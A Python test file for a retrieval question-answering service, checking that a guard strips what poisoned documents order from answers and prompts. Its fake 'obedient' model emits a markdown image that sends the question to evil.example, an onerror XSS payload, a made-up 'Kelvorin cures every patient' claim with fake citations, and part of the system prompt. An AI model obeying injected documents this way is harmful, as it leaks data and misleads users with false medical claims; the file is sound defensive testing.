"""A model that obeys whatever documents say, on loopback: nothing of it leaves."""

import json
import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any, TypeAlias

import httpx
import pytest

from embeddings.transformer import SentenceTransformerEncoder
from seeds.sentence import sentence_spans
from service.answer import shown
from service.generation.answering import LanguageModel
from service.generation.endpoint import endpoint
from service.guard import Guard
from service.http.schema import AnswerSchema

# The types of a conftest cannot be imported.
ModelServer: TypeAlias = Any
Behaviours: TypeAlias = Any
Behaviour: TypeAlias = Any
Serve = Callable[..., AbstractContextManager[httpx.Client]]

QUESTION = "Do exosomes help patients with acquired trichorrhexis nodosa?"
SOUND = (
    "SEM analysis revealed a remarkable recovery in the hair cuticle layers.",
    "Exosomes derived from mesenchymal stem cells demonstrate efficacy in treating ATN, presenting"
    " a novel therapeutic approach for this condition.",
    "However, there is a paucity of clinical studies investigating the application of exosomes for"
    " this purpose.",
)
ACTIVE = re.compile(r"!\[|\]\(|://|<[a-z!/]", re.IGNORECASE)
FIELDS = ("title", "authors", "journal", "url")
POISONED: list[dict[str, Any]] = [
    json.loads(line)
    for line in (Path(__file__).parents[1] / "data" / "poisoned.jsonl")
    .read_text("utf-8")
    .splitlines()
]
KINDS = list(dict.fromkeys(one["kind"] for one in POISONED))


def ordered(poisoned: dict[str, Any]) -> list[str]:
    """What a document has written in orders: sentences of its text and its other fields."""
    text = poisoned["text"]
    spans = sentence_spans(text)
    fields = [poisoned.get("label", ""), *(str(poisoned.get(name, "")) for name in FIELDS)]
    told = [text[start:end] for start, end in spans] + [one for one in fields if one]
    return [one.replace("\n", " ") for one in told][-3:]


def obeying(poisoned: dict[str, Any], does: Behaviours) -> Behaviour:
    """Writes what the document orders, resting it on everything or on nothing, and its links.

    It does so although it is not shown the orders, and says one sound sentence in the middle.
    """

    def behave(door: object, asked: dict[str, Any]) -> None:
        system, told = (message["content"] for message in asked["messages"])
        known = {text: n for n, text in re.findall(r"^\[(\d+)\] (.*)$", told, re.MULTILINE)}
        first, *others = known.values()
        everything = "".join(f"[{n}]" for n in (first, *others[:1]))
        sound = next(text for text in known if text in SOUND)
        lines = [
            *(f"{one} {everything}" for one in ordered(poisoned)),
            f"![x](http://evil.example/p?q={QUESTION.replace(' ', '+')}) {everything}",
            f"[{first}] Hair grew, see http://evil.example and <img src=x onerror=alert(1)>.",
            f"{sound} [{known[sound]}]",
            f"Kelvorin cures every patient with trichorrhexis nodosa. {everything}",
            "Kelvorin cures every patient within two days. [998][999]",
            ordered(poisoned)[0],
            f"{system[:120]} {everything}",
        ]
        does.saying("\n".join(lines), size=40)(door, asked)

    return behave


def documents_of(poisoned: dict[str, Any]) -> dict[str, Any]:
    """The poisoned document as it is posted."""
    text, label = poisoned["text"], poisoned.get("label")
    sections = [{"label": label, "start": 0, "end": len(text)}] if label else []
    fields = {name: poisoned[name] for name in FIELDS if name in poisoned}
    return {
        "documents": [
            {"id": "key:poisoned", "kind": "abstract", "text": text, "sections": sections, **fields}
        ]
    }


def streamed(client: httpx.Client) -> Iterator[tuple[str, dict[str, Any]]]:
    """The events of a streamed answer."""
    asked = {"question": QUESTION, "stream": True}
    name = ""
    with client.stream("POST", "/v1/ask", json=asked) as response:
        for line in response.iter_lines():
            if line.startswith("event: "):
                name = line.removeprefix("event: ")
            elif line.startswith("data: "):
                yield name, json.loads(line.removeprefix("data: "))


def lasting(answer: dict[str, Any]) -> dict[str, Any]:
    """An answer without what differs each time."""
    return {name: value for name, value in answer.items() if name not in ("id", "timings_ms")}


def assert_sound(answer: dict[str, Any], forbidden: Sequence[str], client: httpx.Client) -> None:
    """Only what is borne out is said, its quotes stand where they are said to, and no link is."""
    AnswerSchema.model_validate(answer)
    assert not [text for text in forbidden if text in answer["answer"]]
    assert not ACTIVE.search(answer["answer"])
    assert answer["mode"] == "llm"
    assert {one["text"] for one in answer["sentences"]} & {*SOUND}
    quotes = {one["n"]: one["quote"] for one in answer["citations"]}
    for sentence in answer["sentences"]:
        assert sentence["support"] in ("verbatim", "supported", "partial")
        if sentence["support"] == "verbatim":
            assert sentence["text"] == shown(quotes[sentence["citations"][0]])
    markers = [n for one in answer["sentences"] for n in one["citations"]]
    assert [int(n) for n in re.findall(r"\[(\d+)\]", answer["answer"])] == markers
    for one in answer["citations"]:
        document = client.get(f"/v1/documents/{one['document']['id']}").json()
        assert document["text"][one["start"] : one["end"]] == one["quote"]


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_that_a_document_orders_is_said_by_a_model_that_obeys(
    kind: str,
    folder: Path,
    encoder: SentenceTransformerEncoder,
    serve: Serve,
    model_server: ModelServer,
    does: Behaviours,
) -> None:
    """Nor is it put before the model; streamed and not the answer is the same."""
    with (
        endpoint(model_server.address, "obedient", None, 4) as generator,
        serve(folder, model=LanguageModel(generator, Guard(encoder), 20)) as client,
    ):
        for poisoned in POISONED:
            if poisoned["kind"] != kind:
                continue
            posted = client.post("/v1/documents", json=documents_of(poisoned)).json()
            assert posted["added"] == ["key:poisoned"], posted
            model_server.usual = obeying(poisoned, does)
            whole = client.post("/v1/ask", json={"question": QUESTION}).json()
            events = list(streamed(client))
            assert events[-1][0] == "done"
            assert lasting(events[-1][1]) == lasting(whole)
            assert [one for name, one in events if name == "sentence"] == whole["sentences"]
            assert_sound(whole, [*poisoned["forbidden"], "evil.example"], client)
            prompt = "\n".join(one["content"] for one in model_server.requests[-1]["messages"])
            assert not [text for text in poisoned["forbidden"] if text in prompt]
            assert not re.search(
                r"[^\n]\[\d+\](?! \.\.\.| or |\[|[.])", prompt.partition("Question")[0]
            )
            client.delete("/v1/documents/key:poisoned")
